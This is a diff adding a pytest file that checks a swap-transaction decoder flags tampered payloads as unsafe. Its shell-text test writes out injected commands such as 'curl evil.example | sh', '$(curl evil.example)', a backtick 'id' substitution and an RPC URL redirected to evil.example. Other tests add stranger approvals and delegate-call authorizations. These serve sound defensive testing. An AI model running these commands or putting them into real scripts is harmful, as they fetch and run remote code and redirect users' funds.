@@ -1,0 +1,143 @@
+"""`swapcli decode` on the forms of a real payload: the honest ones end with status 0, all others with 7."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from swapcli.faces.cli import exit_codes
+from tests.examples import few
+from tests.payload.decode.forms import ME, STRANGER, Json, evm_forms, starknet_forms
+from tests.support.command import CommandResult, run_swapcli
+from tests.support.service import recipient_on
+
+E18 = 10**18
+FORM_NAMES = tuple(evm_forms("", "", 0))
+STARKNET_NAMES = tuple(starknet_forms([]))
+
+
+def build(*order: str, output_format: str = "json") -> CommandResult:
+    recipient = recipient_on("starknet") if order[0] == "starknet" else ME
+    ran = run_swapcli("calldata", *order, "--offline", "--destination", recipient, "--format", output_format)
+    assert ran.exit_code == 0, ran.stderr
+    return ran
+
+
+@pytest.fixture(scope="module")
+def sale() -> Json:
+    """A document that sells the native token."""
+    return dict(build("base", "ETH", "USDC", "1").json)
+
+
+@pytest.fixture(scope="module")
+def starknet_sale() -> Json:
+    """A document of Starknet."""
+    return dict(build("starknet", "STRK", "USDC", "1000").json)
+
+
+@pytest.fixture(scope="module")
+def shell_texts() -> dict[str, str]:
+    """The text of a purchase with its approval, by its format."""
+    return {each: build("base", "USDC", "ETH", "3000", output_format=each).stdout for each in ("cast", "sh")}
+
+
+def decode(form: Any, *options: str) -> CommandResult:
+    text = form if isinstance(form, str) else json.dumps(form)
+    return run_swapcli("decode", "-", "--offline", "--json", *options, stdin=text.encode())
+
+
+def assert_honest(ran: CommandResult) -> None:
+    assert ran.exit_code == exit_codes.OK, (ran.stdout, ran.stderr)
+    assert (ran.json["function"], ran.json["dangers"]) == ("swap", [])
+    assert ran.json["order"]["recipient"] in (ME, recipient_on("starknet"))
+
+
+@pytest.mark.parametrize("name", few(FORM_NAMES, 8))
+def test_honest_forms_raise_no_alarm(sale: Json, name: str) -> None:
+    ran = decode(evm_forms(sale["to"], sale["calldata"], E18)[name])
+    assert_honest(ran)
+    assert (ran.json["network"], ran.json["value"]) == ("base", str(E18))
+
+
+@pytest.mark.parametrize("name", few(STARKNET_NAMES, 4))
+def test_honest_forms_of_starknet_raise_no_alarm(starknet_sale: Json, name: str) -> None:
+    ran = decode(starknet_forms(starknet_sale["transactions"])[name])
+    assert_honest(ran)
+    assert len(ran.json["transactions"]) == 2
+
+
+def test_calldata_alone_is_not_called_dangerous(sale: Json) -> None:
+    for form in (sale["calldata"], json.dumps(sale["calldata"]), {"data": sale["calldata"]}):
+        assert_honest(decode(form))
+
+
+PARTS: dict[str, tuple[Json, str]] = {
+    "no contract": ({"to": None}, "CALL_UNUSUAL"),
+    "no value": ({"value": None}, "VALUE_DIFFERS"),
+    "another chain": ({"chain": {"id": 1}}, "CHAIN_DIFFERS"),
+    "another chain by name": ({"chain": "ethereum"}, "CHAIN_DIFFERS"),
+    "a second call": ({"then": {"to": STRANGER, "data": "0xdeadbeef"}}, "HANDOFF_UNUSUAL"),
+    "a payment": ({"tip": {"to": STRANGER, "value": "1"}}, "HANDOFF_UNUSUAL"),
+    "an approval": ({"approval": {"spender": STRANGER}}, "HANDOFF_UNUSUAL"),
+    "a delegate call": ({"operation": 1}, "CALL_UNUSUAL"),
+    "an authorization": ({"authorizationList": [{"address": STRANGER}]}, "CALL_UNUSUAL"),
+    "an authorization below": ({"eip7702": {"authorizationList": [{"address": STRANGER}]}}, "HANDOFF_UNUSUAL"),
+}
+
+
+@pytest.mark.parametrize("name", PARTS)
+def test_each_added_or_missing_part_is_dangerous(sale: Json, name: str) -> None:
+    change, code = PARTS[name]
+    sent = {"from": ME, "to": sale["to"], "data": sale["calldata"], "value": hex(E18)}
+    assert_honest(decode(sent, "--network", "base"))
+    ran = decode({"method": "eth_sendTransaction", "params": [sent | change]}, "--network", "base")
+    assert (ran.exit_code, code in ran.json["dangers"]) == (exit_codes.UNSAFE, True), ran.stdout
+
+
+def test_an_own_document_with_more_is_dangerous(sale: Json) -> None:
+    assert decode(sale).exit_code == exit_codes.OK
+    for change, _ in PARTS.values():
+        if None not in change.values():
+            assert decode(sale | change).exit_code == exit_codes.UNSAFE, change
+
+
+@pytest.mark.parametrize(
+    ("output_format", "old", "new"),
+    [
+        ("cast", " --value", " --rpc-url http://evil.example --value"),
+        ("cast", "cast send", "cast send $(curl evil.example)"),
+        ("cast", "cast send", "PATH=/tmp/evil cast send"),
+        ("cast", "\n", "; curl evil.example | sh\n"),
+        ("sh", "SWAP_WARNINGS=", "SWAP_NOTE=$(curl evil.example)\nSWAP_WARNINGS="),
+        ("sh", "SWAP_VALUE=0", "SWAP_VALUE=`id`"),
+        ("sh", "SWAP_VALUE=0", "ETH_RPC_URL=http://evil.example\nSWAP_VALUE=0"),
+        ("sh", "SWAP_CALLDATA=0x", "SWAP_CALLDATA=$X0x"),
+    ],
+)
+def test_a_shell_text_with_more_is_never_called_safe(
+    shell_texts: dict[str, str], output_format: str, old: str, new: str
+) -> None:
+    text = shell_texts[output_format]
+    assert_honest(decode(text))
+    assert old in text
+    ran = decode(text.replace(old, new, 1), "--network", "base")
+    assert (ran.exit_code, "HANDOFF_UNUSUAL" in ran.json["dangers"]) == (exit_codes.UNSAFE, True)
+
+
+def test_a_changed_felt_of_a_pool_is_dangerous(starknet_sale: Json) -> None:
+    felts = starknet_sale["calldata"]
+    assert decode(json.dumps(felts)).exit_code == exit_codes.OK
+    changed = [*felts[:-4], str(int(felts[-4]) + 1), *felts[-3:]]  # the fee of the last pool
+    ran = decode(json.dumps(changed), "--network", "starknet")
+    assert ran.json["dangers"] == ["POOL_UNKNOWN"]
+    ran = decode(json.dumps([*felts, "0"]), "--network", "starknet")
+    assert ran.json["dangers"] == ["CALL_UNUSUAL"]
+
+
+def test_calls_beside_those_of_the_swap_are_dangerous(starknet_sale: Json) -> None:
+    approve, swap = starknet_sale["transactions"]
+    transfer = {"to": approve["to"], "entrypoint": "transfer", "calldata": ["1", "2", "0"]}
+    for calls in ([approve, swap, transfer], [transfer, approve, swap], [approve, approve, swap]):
+        assert "TRANSACTIONS_DIFFER" in decode({"calls": calls}, "--network", "starknet").json["dangers"]
